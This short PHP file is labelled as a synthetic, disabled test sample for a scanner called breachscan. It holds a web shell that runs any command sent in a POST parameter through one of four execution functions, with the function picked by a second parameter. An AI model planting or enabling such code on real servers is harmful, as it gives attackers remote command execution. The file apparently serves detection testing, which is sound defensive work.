<?php
// synthetic test sample for breachscan: command runner with four execution back-ends,
// picked by a request parameter. Disabled.
return;
$c = $_POST['c'];
switch ($_POST['m']) {
    case 1: system($c); break;
    case 2: passthru($c); break;
    case 3: echo shell_exec($c); break;
    case 4: $h = popen($c, 'r'); echo fread($h, 4096); break;
}
